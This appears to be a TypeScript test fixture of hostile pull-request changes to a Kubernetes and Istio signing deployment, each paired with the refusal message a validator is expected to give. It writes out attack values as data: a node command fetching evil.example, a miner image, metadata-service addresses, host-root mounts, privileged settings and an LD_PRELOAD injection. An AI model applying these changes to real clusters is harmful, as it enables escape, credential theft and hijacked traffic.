// Changes that a hostile pull request could bring, and what the refusal says. Each is a change of the default rendering.
import type { Change } from '../mistakes/mistakes.ts'

export type Hostile = readonly [change: Change, refusal: RegExp]

const pod = 'Deployment/secure-signing'
const template = 'spec.template'
const container = `${template}.spec.containers.frontend`
const signer = `${template}.spec.containers.signer`
const route = 'VirtualService/frontend'
const gateway = 'Gateway/public'
const istio = 'networking.istio.io/v1'
const bootstrap = 'custom_bootstrap~1json'

function add(apiVersion: string, kind: string, name: string, rest: object = {}): Change {
  const metadata = { name, namespace: 'signing' }
  return ['+', '', { apiVersion, kind, metadata, ...rest }]
}

function addTo(namespace: string, apiVersion: string, kind: string): Change {
  return ['+', '', { apiVersion, kind, metadata: { name: 'x', namespace }, spec: {} }]
}

/** Twenty pull requests, which also run against the cluster. */
export const pullRequests: Readonly<Record<string, Hostile>> = {
  'a policy in the namespace of others': [
    addTo('istio-system', 'security.istio.io/v1', 'AuthorizationPolicy'),
    /does not belong to namespace signing/,
  ],
  'the resources of another application': [
    ['ServiceAccount/secure-signing', 'metadata.namespace', 'orders'],
    /does not belong to namespace signing/,
  ],
  'rights in the cluster': [
    [
      '+',
      '',
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRoleBinding',
        metadata: { name: 'x' },
      },
    ],
    /ClusterRoleBinding .*gives no rights/,
  ],
  'rights in the namespace': [
    add('rbac.authorization.k8s.io/v1', 'RoleBinding', 'x'),
    /RoleBinding .*gives no rights/,
  ],
  'a webhook of the whole cluster': [
    [
      '+',
      '',
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'MutatingWebhookConfiguration',
        metadata: { name: 'x' },
      },
    ],
    /acts on the whole cluster/,
  ],
  'an admission policy of others': [
    [
      '+',
      '',
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'ValidatingAdmissionPolicy',
        metadata: { name: 'baseline' },
        spec: {},
      },
    ],
    /does not belong to namespace signing/,
  ],
  'a route that is exported to all namespaces': [
    add(istio, 'ServiceEntry', 'x', { spec: { hosts: ['a.pod.internal'], exportTo: ['*'] } }),
    /is exported to \["\*"\]/,
  ],
  'a live host': [[route, 'spec.hosts', ['shop.example']], /takes the host shop\.example/],
  'a gateway of others': [
    [route, 'spec.gateways', ['public', 'infra/edge']],
    /binds to the Gateway infra\/edge of others/,
  ],
  'the Pods of another gateway': [
    [gateway, 'spec.selector', { istio: 'eastwestgateway' }],
    /selects the Pods of a live gateway/,
  ],
  'the API server as a destination': [
    [route, 'spec.http.0.route.0.destination.host', 'kubernetes.default.svc.cluster.local'],
    /leads to kubernetes\.default\.svc\.cluster\.local/,
  ],
  'a host of the mesh as a ServiceEntry': [
    add(istio, 'ServiceEntry', 'x', { spec: { hosts: ['istiod.istio-system.svc'] } }),
    /claims the host istiod\.istio-system\.svc/,
  ],
  'a real key source': [
    add('external-secrets.io/v1', 'ExternalSecret', 'hmac-key', { spec: {} }),
    /asks no source of keys/,
  ],
  'a Secret': [add('v1', 'Secret', 'hmac-key', { data: {} }), /asks no source of keys/],
  'a foreign image': [
    [pod, `${container}.image`, 'evil.example/miner:latest'],
    /has the image evil/,
  ],
  'a command of its own': [
    [pod, `${container}.command`, ['/nodejs/bin/node', '-e', 'fetch("http://evil.example")']],
    /changes command, which decides what runs/,
  ],
  'a container of its own': [
    [pod, `${template}.spec.containers.+`, { name: 'miner', image: 'evil.example/miner' }],
    /adds the container miner/,
  ],
  'the file system of the node': [
    [pod, `${template}.spec.volumes.+`, { name: 'node', hostPath: { path: '/' } }],
    /has the volume node of hostPath/,
  ],
  'a filter for Envoy': [add(istio, 'EnvoyFilter', 'x'), /could run code in a proxy/],
  'token keys from an address of its own': [
    [
      'RequestAuthentication/signer-authenticate-caller',
      'spec.jwtRules.+',
      { issuer: 'https://evil.example', jwksUri: 'http://169.254.169.254/keys' },
    ],
    /lets istiod fetch token keys/,
  ],
}

/** What else is refused. */
export const others: Readonly<Record<string, Hostile>> = {
  'a privileged container': [
    [pod, `${container}.securityContext.privileged`, true],
    /sets privileged/,
  ],
  'a capability': [
    [pod, `${container}.securityContext.capabilities.add`, ['SYS_PTRACE']],
    /sets capabilities\.add/,
  ],
  'the user root for the Pod': [
    [pod, `${template}.spec.securityContext.runAsUser`, 0],
    /sets runAsUser: 0 for the Pod/,
  ],
  'a kernel parameter': [
    [pod, `${template}.spec.securityContext.sysctls`, [{ name: 'a', value: 'b' }]],
    /sets spec\.template\.spec\.securityContext\.sysctls/,
  ],
  'the network of the node': [[pod, `${template}.spec.hostNetwork`, true], /sets hostNetwork/],
  'the processes of the node': [[pod, `${template}.spec.hostPID`, true], /sets hostPID/],
  'a port of the node': [[pod, `${container}.ports.0.hostPort`, 80], /opens a port of the node/],
  'an init container': [
    [
      pod,
      `${template}.spec.initContainers`,
      [{ name: 'x', image: 'localhost/secure-signing/signer:1' }],
    ],
    /adds the container x/,
  ],
  'a command as a probe': [
    [pod, `${container}.livenessProbe`, { exec: { command: ['sh'] } }],
    /livenessProbe that does not ask the Pod by HTTP/,
  ],
  'a probe of another host': [
    [pod, `${container}.livenessProbe.httpGet.host`, '169.254.169.254'],
    /livenessProbe that does not ask the Pod by HTTP/,
  ],
  'a hook': [
    [pod, `${signer}.lifecycle`, { postStart: { exec: { command: ['sh'] } } }],
    /changes lifecycle, which decides what runs/,
  ],
  'a variable from a Secret': [
    [
      pod,
      `${container}.env.+`,
      { name: 'FRONTEND_X', valueFrom: { secretKeyRef: { name: 'a', key: 'b' } } },
    ],
    /reads the variable FRONTEND_X from another resource/,
  ],
  'an address in a variable': [
    [pod, `${container}.env.+`, { name: 'FRONTEND_X', value: 'http://169.254.169.254' }],
    /has another address in the variable FRONTEND_X/,
  ],
  'an address in place of the signer': [
    ['ServiceEntry/signer-in-pod', 'spec.endpoints.0.address', '10.0.0.1'],
    /leads to addresses that are not deployed/,
  ],
  'a token for the API server': [
    [
      pod,
      `${template}.spec.volumes.+`,
      { name: 'api', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } },
    ],
    /has the volume api of projected/,
  ],
  'the usual token of the account': [
    [pod, `${template}.spec.automountServiceAccountToken`, true],
    /sets automountServiceAccountToken/,
  ],
  'a Secret that pulls images': [
    [pod, `${template}.spec.imagePullSecrets`, [{ name: 'x' }]],
    /sets spec\.template\.spec\.imagePullSecrets/,
  ],
  'another account': [
    [pod, `${template}.spec.serviceAccountName`, 'default'],
    /sets serviceAccountName/,
  ],
  'a template of injection': [
    [pod, `${template}.metadata.annotations.inject~1istio~1io/templates`, 'gateway'],
    /changes the annotation inject\.istio\.io\/templates/,
  ],
  'another image of the proxy': [
    [pod, `${template}.metadata.annotations.sidecar~1istio~1io/proxyImage`, 'evil.example/proxy'],
    /changes the annotation sidecar\.istio\.io\/proxyImage/,
  ],
  'another bootstrap of Envoy': [
    [pod, `${template}.metadata.annotations.sidecar~1istio~1io/bootstrapOverride`, 'mine'],
    /changes the annotation sidecar\.istio\.io\/bootstrapOverride/,
  ],
  'code in the bootstrap of Envoy': [
    [
      'ConfigMap/envoy-admin-allowlist',
      `data.${bootstrap}`,
      '{"admin": {"allow_paths": []}, "static_resources": {}}',
    ],
    /sets more of the proxy than admin\.allow_paths/,
  ],
  'a variable of the proxy': [
    [
      pod,
      `${template}.metadata.annotations.proxy~1istio~1io/config`,
      '{"holdApplicationUntilProxyStarts": true, "proxyMetadata": {"LD_PRELOAD": "/x"}}',
    ],
    /changes the annotation proxy\.istio\.io\/config/,
  ],
  'another revision of Istio': [
    [pod, `${template}.metadata.labels.istio~1io/rev`, 'mine'],
    /has the label istio\.io\/rev on its Pods/,
  ],
  'a label for a webhook': [
    [pod, `${template}.metadata.labels.azure~1workload~1identity/use`, 'true'],
    /has the label azure\.workload\.identity\/use on its Pods/,
  ],
  'an annotation of Istio': [
    ['Service/frontend', 'metadata.annotations', { 'networking.istio.io/exportTo': 'a,b' }],
    /has networking\.istio\.io\/exportTo of Istio/,
  ],
  'a load balancer': [['Service/frontend', 'spec.type', 'LoadBalancer'], /is of the type Load/],
  'an external name': [
    ['Service/frontend', 'spec.externalName', 'evil.example'],
    /sets spec\.externalName/,
  ],
  'an external address': [
    ['Service/frontend', 'spec.externalIPs', ['192.0.2.9']],
    /sets spec\.externalIPs/,
  ],
  'a port of every node': [
    ['Service/frontend', 'spec.ports.0.nodePort', 30_000],
    /sets spec\.ports\.0\.nodePort/,
  ],
  'a certificate of the gateway': [
    [gateway, 'spec.servers.0.tls', { mode: 'SIMPLE', credentialName: 'live' }],
    /uses a certificate of the gateway/,
  ],
  'a mirror of requests': [
    [route, 'spec.http.0.mirror', { host: 'evil.other.svc.cluster.local' }],
    /leads to evil\.other/,
  ],
  'a delegate route': [
    [route, 'spec.http.0.delegate', { name: 'x', namespace: 'other' }],
    /delegates to a route of others/,
  ],
  'a rule for the Service of others': [
    ['DestinationRule/frontend', 'spec.host', 'kubernetes.default.svc.cluster.local'],
    /leads to kubernetes\.default/,
  ],
  'a policy that asks a server': [
    ['AuthorizationPolicy/signer-allow-probe', 'spec.action', 'CUSTOM'],
    /has the action CUSTOM/,
  ],
  'a finalizer': [
    ['Service/frontend', 'metadata.finalizers', ['x.example/y']],
    /sets metadata\.finalizers/,
  ],
  'an owner': [
    ['Service/frontend', 'metadata.ownerReferences', [{ kind: 'Node' }]],
    /sets metadata\.ownerReferences/,
  ],
  'a generated name': [
    ['Service/frontend', 'metadata.generateName', 'x-'],
    /sets metadata\.generateName/,
  ],
  'a job': [add('batch/v1', 'Job', 'x'), /runs no other workload/],
  'a workload entry': [add(istio, 'WorkloadEntry', 'x'), /is of the kind WorkloadEntry/],
  'an unknown kind': [add('example.com/v1', 'Thing', 'x'), /is of the kind Thing/],
  'a namespace of others': [
    ['+', '', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'kube-system' } }],
    /does not belong to namespace signing/,
  ],
  'the name of an attacker': [
    add('v1', 'ServiceAccount', 'matrix-other-account'),
    /has a name that every scratch namespace uses/,
  ],
  'the name of a scratch namespace': [
    [
      'AuthorizationPolicy/signer-deny-others',
      'spec.rules.+',
      { from: [{ source: { namespaces: ['signing-preview-*'] } }] },
    ],
    /names the scratch namespaces of previews/,
  ],
  'a resource twice': [add('v1', 'Service', 'frontend', { spec: {} }), /is there twice/],
  'no Deployment': [[pod, '', undefined], /there is no Deployment\/secure-signing/],
}
